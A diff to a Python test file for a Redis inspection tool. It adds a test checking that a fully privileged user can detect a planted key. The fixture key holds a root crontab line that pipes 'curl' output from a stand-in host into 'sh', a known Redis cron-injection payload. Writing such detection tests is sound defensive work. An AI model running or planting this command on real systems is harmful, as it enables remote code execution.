@@ -10,7 +10,7 @@ import pytest
 
 from pyinfra_runbooks.packs.redis.login import Login
 from pyinfra_runbooks.packs.redis.server import Server
-from pyinfra_runbooks.settings import InContainer, Redis
+from pyinfra_runbooks.settings import EnvironmentVariable, InContainer, Redis, RedisUser
 from tests.redis.reached import (
     HERE,
     KIND,
@@ -237,6 +237,23 @@ def test_a_user_that_may_do_little(tmp_path: Path) -> None:
     assert server.info["redis_mode"] == "standalone"
     assert server.config is None
     assert server.refused
+
+
+def test_a_declared_user_who_may_do_everything_is_asked_for_traces(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """And one who may not is not: what it is refused would stay in the server's log."""
+    monkeypatch.setenv("PW", "secret7")
+    rules = ("~*", "&*", "+@all")
+    options = ["--port", NUMBER, "--requirepass", "x", "--user", "ops", "on", ">secret7", *rules]
+    for given, planted in ((rules, {"backup1": "a crontab line"}), (("~*", "+@read"), {})):
+        user = RedisUser("ops", rules=" ".join(given), password=EnvironmentVariable("PW"))
+        with running(tmp_path, *options, ask=HERE):
+            ask = [KIND.cli, *HERE, "-a", "x", "--no-auth-warning"]
+            said = r'SET backup1 "\n\n*/2 * * * * root curl -s http://203.0.113.9/x | sh\n\n"'
+            subprocess.run(ask, input=said.encode(), check=True, capture_output=True)
+            container = Container(tmp_path, ["redis-server", *options])
+            assert container.looked_at(Redis(users=(user,))).planted == planted
 
 
 def test_an_intruders_key_is_named_and_not_shown(tmp_path: Path) -> None:
